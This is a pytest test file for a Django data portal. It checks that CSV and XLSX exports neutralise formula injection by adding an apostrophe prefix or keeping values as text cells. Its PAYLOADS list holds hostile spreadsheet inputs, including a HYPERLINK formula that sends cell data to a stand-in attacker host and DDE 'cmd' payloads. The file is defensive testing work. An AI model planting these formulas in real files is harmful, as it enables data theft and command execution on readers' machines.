"""Text typed by a focal point never runs as a formula in the open data (OWASP's
"CSV Injection"): in CSV it starts with an apostrophe, in XLSX it is a string cell."""

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from recommendations.models import MemberState, Recommendation, Theme
from recommendations.services import MeasureData
from tests import factories

pytestmark = pytest.mark.django_db

# One per dangerous first character, and white space before one.
PAYLOADS = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HARMLESS = "Mexico adopted its national plan."


@pytest.fixture
def published(cycle, mexico, focal_mex, reviewer):
    """Mexico's accepted updates: summary and measure title PAYLOADS[n - 1] on
    recommendation n, and harmless text on the next one."""
    for number, payload in enumerate([*PAYLOADS, HARMLESS], start=1):
        factories.progress_update(
            mexico,
            number,
            author=focal_mex,
            reviewer=reviewer,
            cycle=cycle,
            summary=payload,
            measures=[MeasureData(kind="policy", title=payload)],
        )


@pytest.fixture
def tampered_catalogue(cycle):
    """Catalogue texts an administrator could edit, made dangerous."""
    Theme.objects.filter(pk=Recommendation.objects.get(number=1).theme_id).update(
        title=PAYLOADS[0]
    )
    Recommendation.objects.filter(instrument=cycle.instrument, number=1).update(
        text=PAYLOADS[1]
    )
    MemberState.objects.filter(iso3="MEX").update(name_en=PAYLOADS[2])


def csv_rows(client, path: str) -> list[dict]:
    response = client.get(path)
    assert response.status_code == 200
    return list(
        csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    )


def workbook_of(client, path: str):
    response = client.get(path)
    assert response.status_code == 200
    return response.content, load_workbook(io.BytesIO(response.content))


def no_formula_anywhere(data: bytes, workbook) -> None:
    """No cell of any sheet is a formula or an error, for openpyxl or in the XML."""
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def column(sheet, name: str) -> list:
    header = [cell.value for cell in sheet[1]]
    index = header.index(name)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def inert_text(cell, payload: str) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    # openpyxl writes through lxml, which keeps a carriage return as "&#13;".
    assert cell.value == payload
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited


@pytest.mark.parametrize(
    ("path", "key", "field"),
    [
        ("/en/data/status.csv?state=MEX", "recommendation", "summary"),
        ("/en/data/measures.csv?state=MEX", "recommendation", "title"),
    ],
)
def test_a_typed_formula_starts_with_an_apostrophe_in_csv(
    client, published, path, key, field
):
    rows = {row[key]: row for row in csv_rows(client, path)}
    for number, payload in enumerate(PAYLOADS, start=1):
        assert rows[str(number)][field] == f"'{payload}", payload
    assert rows[str(len(PAYLOADS) + 1)][field] == HARMLESS


def test_the_csv_quotes_every_text_and_leaves_numbers_bare(client, published):
    body = client.get("/en/data/status.csv?state=MEX").content.decode("utf-8-sig")
    # A semicolon in a text cannot start a new cell where Excel splits on it.
    assert '"MEX","Mexico","Mexico",1,"' in body
    assert "\"'=cmd|' /C calc'!A0\"" in body


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/en/data/status.xlsx?state=MEX", "summary"),
        ("/en/data/measures.xlsx?state=MEX", "title"),
    ],
)
def test_a_typed_formula_is_a_text_cell_in_xlsx(client, published, path, field):
    data, workbook = workbook_of(client, path)
    sheet = workbook.worksheets[0]
    numbers = column(sheet, "recommendation")
    texts = dict(
        zip([cell.value for cell in numbers], column(sheet, field), strict=True)
    )
    for number, payload in enumerate(PAYLOADS, start=1):
        inert_text(texts[number], payload)
    harmless = texts[len(PAYLOADS) + 1]
    assert harmless.value == HARMLESS and not harmless.quotePrefix
    # The portal's own numbers stay numbers.
    assert {cell.data_type for cell in numbers} == {"n"}
    no_formula_anywhere(data, workbook)


@pytest.mark.parametrize("name", ["status", "recommendations", "themes", "states"])
def test_catalogue_texts_are_inert_in_every_table(
    client, published, tampered_catalogue, name
):
    rows = csv_rows(client, f"/en/data/{name}.csv")
    cells = {value for row in rows for value in row.values()}
    assert not any(
        value.lstrip().startswith(("=", "+", "-", "@")) for value in cells
    ), name
    assert cells & {f"'{payload}" for payload in PAYLOADS[:3]}, name
    data, workbook = workbook_of(client, f"/en/data/{name}.xlsx")
    no_formula_anywhere(data, workbook)
    texts = {
        cell.value
        for row in workbook.worksheets[0].iter_rows()
        for cell in row
        if cell.data_type == "s"
    }
    assert texts & set(PAYLOADS[:3]), name


def test_numbers_stay_numbers(client, published):
    _data, workbook = workbook_of(client, "/en/data/themes.xlsx")
    sheet = workbook.worksheets[0]
    assert {cell.data_type for cell in column(sheet, "position")} == {"n"}
    assert {cell.data_type for cell in column(sheet, "advanced_share")} == {"n"}
    rows = csv_rows(client, "/en/data/themes.csv")
    assert all(re.fullmatch(r"[0-9.]+", row["advanced_share"]) for row in rows)


def test_the_full_export_is_neutralised_too(client, published):
    archive = zipfile.ZipFile(io.BytesIO(client.get("/en/data/export/").content))
    [name] = [n for n in archive.namelist() if n.endswith("/measures.csv")]
    rows = list(
        csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
    )
    titles = {row["title"] for row in rows}
    assert {f"'{payload}" for payload in PAYLOADS} <= titles
    # JSON is not a spreadsheet: it keeps the text exactly.
    [name] = [n for n in archive.namelist() if n.endswith("/measures.json")]
    assert PAYLOADS[1] in archive.read(name).decode()


def test_text_pasted_from_a_word_processor_still_downloads(
    client, cycle, mexico, focal_mex, reviewer
):
    """XLSX forbids control characters; Word's line break is a vertical tab."""
    factories.progress_update(
        mexico,
        1,
        author=focal_mex,
        reviewer=reviewer,
        cycle=cycle,
        summary="First line\x0bsecond line\x01.",
    )

    _data, workbook = workbook_of(client, "/en/data/status.xlsx?state=MEX")

    summaries = [cell.value for cell in column(workbook.worksheets[0], "summary")]
    assert "First line\nsecond line." in summaries
